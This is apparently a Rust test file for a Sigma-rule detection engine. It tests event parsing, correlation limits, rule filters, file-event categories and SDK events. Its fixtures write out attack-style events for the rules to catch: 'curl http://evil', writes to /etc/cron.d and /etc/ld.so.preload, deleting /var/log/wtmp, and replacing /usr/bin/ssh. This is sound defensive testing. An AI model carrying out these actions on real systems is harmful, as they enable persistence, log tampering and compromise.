        header(4, 9, "/bin/sh", Body::Exit(Exit { exit_code: None, signal: Some(9) })),
    ] {
        let line = serde_json::to_string(&ev).unwrap();
        assert_eq!(record::event_of_line(&line).unwrap(), Some(ev), "{line}");
    }
    assert_eq!(record::event_of_line(r#"{"kind":"stats","received":3}"#).unwrap(), None);
    assert!(record::event_of_line("{\"kind\":\"exec\"").is_err());
    assert!(record::event_of_line(r#"{"kind":"exec","time":"2026-12-06T04:00:00Z"}"#).is_err());
}

#[test]
fn state_stays_bounded_under_churn() {
    // A correlation grouped by command line and a network rule reading
    // command lines: a process that execs without end (new pids, new
    // command lines) cannot grow the windows or the pid table past their caps.
    let mut e = corr_engine(
        "title: Same command\nid: same-cmd\ncorrelation:\n    type: event_count\n    rules:\n        - dl-tool\n    group-by:\n        - CommandLine\n    timespan: 1h\n    condition:\n        gte: 2\n---\ntitle: Net cmd\nid: net-cmd\nlogsource:\n    product: linux\n    category: network_connection\ndetection:\n    sel:\n        CommandLine|contains: 'x'\n    condition: sel\n",
    );
    let n = super::MAX_WINDOWS.max(super::CMDLINE_CAP) as u32 + 500;
    for i in 0..n {
        let arg = format!("http://{i}");
        fires(&mut e, &exec_at(i64::from(i / 100), 1000 + i, "/usr/bin/curl", &["curl", &arg], "/bin/sh"));
    }
    let corr = e.corr.as_ref().expect("a correlation engine");
    assert!(corr.state_count() <= super::MAX_WINDOWS, "{} windows", corr.state_count());
    assert!(e.cmdlines.map.len() <= super::CMDLINE_CAP, "{} command lines", e.cmdlines.map.len());
    assert!(e.cmdlines.map.len() >= super::CMDLINE_CAP - 1, "the table is used");
}

#[test]
fn filter_documents_apply_to_the_rules_they_name() {
    let mut e = engine(&format!(
        "{BASE_RULES}---\ntitle: Local downloads are fine\nlogsource:\n    product: linux\n    category: process_creation\nfilter:\n    rules:\n        - dl-tool\n    selection:\n        CommandLine|contains: 'localhost'\n    condition: not selection\n"
    ));
    assert_eq!(count(&mut e, &exec("/usr/bin/curl", &["curl", "http://evil"]), "dl-tool"), 1);
    assert_eq!(count(&mut e, &exec("/usr/bin/curl", &["curl", "http://localhost/"]), "dl-tool"), 0);
}

// ---------------------------------------------------------------------------
// File categories

fn file_ev(op: &'static str, path: &str, new_path: Option<&str>, success: bool) -> Event {
    header(
        0,
        300,
        "/usr/bin/cp",
        Body::File(crate::events::file::File {
            operation: op,
            path: path.into(),
            new_path: new_path.map(Into::into),
            target: None,
            mode: None,
            owner_uid: None,
            owner_gid: None,
            open_flags: None,
            directory: false,
            result: if success { 0 } else { -13 },
            success,
            error: None,
            path_truncated: false,
            resolved_from: None,
            raw: Default::default(),
        }),
    )
}

#[test]
fn file_event_delete_and_rename_categories() {
    // file_event: created or written files (and the new name of a rename,
    // a new link); not deletes, chmods or failures.
    check(
        "file_event",
        "    sel:\n        TargetFilename|startswith: '/etc/cron.d/'\n        Image|endswith: '/cp'\n        User: alice\n    condition: sel",
        &[
            file_ev("create", "/etc/cron.d/job", None, true),
            file_ev("write", "/etc/cron.d/job", None, true),
            file_ev("symlink", "/etc/cron.d/job", None, true),
        ],
        &[
            file_ev("delete", "/etc/cron.d/job", None, true),
            file_ev("chmod", "/etc/cron.d/job", None, true),
            file_ev("create", "/etc/cron.d/job", None, false),
            file_ev("create", "/etc/cron.daily/job", None, true),
        ],
    );
    check(
        "file_delete",
        "    sel:\n        TargetFilename: '/var/log/wtmp'\n    condition: sel",
        &[file_ev("delete", "/var/log/wtmp", None, true)],
        &[file_ev("write", "/var/log/wtmp", None, true)],
    );
    check(
        "file_rename",
        "    sel:\n        SourceFilename|endswith: '.tmp'\n        TargetFilename: '/usr/bin/ssh'\n    condition: sel",
        &[file_ev("rename", "/usr/bin/.ssh.tmp", Some("/usr/bin/ssh"), true)],
        &[file_ev("rename", "/usr/bin/ssh", Some("/usr/bin/ssh.tmp"), true)],
    );
    // A rename is file_rename's only (as Sysmon has it): not a file_event.
    check(
        "file_event",
        "    sel:\n        TargetFilename: '/etc/ld.so.preload'\n    condition: sel",
        &[file_ev("write", "/etc/ld.so.preload", None, true)],
        &[file_ev("rename", "/tmp/x", Some("/etc/ld.so.preload"), true)],
    );
    // SourceFilename is file_rename's only: a file_event rule naming it is skipped.
    let (_, r, _) = load_dir(
        &[("r.yml", &rule("file_event", "    sel:\n        SourceFilename: x\n    condition: sel"))],
        &[],
    );
    assert_eq!(r.loaded(), 0);
    assert_eq!(r.skipped_rules.len(), 1, "{:?}", r.skipped_rules);
}

// ---------------------------------------------------------------------------
// SDK events (logsource category `sdk`)

fn sdk_event(line: &str) -> Event {
    let ev = shrike_common::sdk::parse_line(line.as_bytes(), t(0)).expect("a valid SDK line");
    header(5, 77, "/usr/bin/doorman", Body::Sdk(Box::new(crate::sdk::Sdk { event: ev })))
}

#[test]
fn sdk_events_match_by_name_and_payload_fields() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/rules/sdk");
    let (e, r) = compile(&[root], &BTreeSet::new());
    assert!(r.errors.is_empty() && r.skipped.is_empty(), "{r:?}");
    let mut e = e.expect("the sdk rule loads");
    let forced = sdk_event(r#"{"Name":"DoorOpened","Payload":[{"Door":"cabinet-2","Forced":true}]}"#);
    let a = fires(&mut e, &forced);
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(&*a[0].rule, "shrike-test-sdk-door");
    assert_eq!(a[0].event.pid, 77);
    // Look-alikes: not forced, another door, another Name, the second item.
    for line in [
        r#"{"Name":"DoorOpened","Payload":[{"Door":"cabinet-2","Forced":false}]}"#,
        r#"{"Name":"DoorOpened","Payload":[{"Door":"gate","Forced":true}]}"#,
        r#"{"Name":"DoorClosed","Payload":[{"Door":"cabinet-2","Forced":true}]}"#,
    ] {
        assert!(fires(&mut e, &sdk_event(line)).is_empty(), "{line}");
    }
    // Each payload item is a Sigma event of its own.
    let two =
        sdk_event(r#"{"Name":"DoorOpened","Payload":[{"Door":"gate"},{"Door":"cabinet","Forced":true}]}"#);
    assert_eq!(fires(&mut e, &two).len(), 1);

    // The event's own fields, numbers, ExtraDetails and the sender's header.
    check(
        "sdk",
        "    sel:\n        EventType: Operational\n        Tries|gte: 3\n        ExtraDetails.Site: north\n        Image: /usr/bin/doorman\n    condition: sel",
        &[sdk_event(
            r#"{"Name":"Tamper","EventType":"Operational","Payload":[{"Tries":4,"ExtraDetails":{"Site":"north"}}]}"#,
        )],
        &[
            sdk_event(
                r#"{"Name":"Tamper","EventType":"Operational","Payload":[{"Tries":2,"ExtraDetails":{"Site":"north"}}]}"#,
            ),
            sdk_event(r#"{"Name":"Tamper","Payload":[{"Tries":4,"ExtraDetails":{"Site":"north"}}]}"#),
        ],
    );
    // Other categories' rules never see SDK events.
    let mut p = engine(&rule(PROC, "    sel:\n        Image|endswith: doorman\n    condition: sel"));
    assert!(fires(&mut p, &forced).is_empty());

    // A recorded `sdk` line reads back for `shrike rules test`.
    let line = serde_json::to_string(&forced).unwrap();
    let back = record::event_of_line(&line).unwrap().expect("an sdk line is an event");
    assert_eq!(back.body, forced.body, "{line}");
}
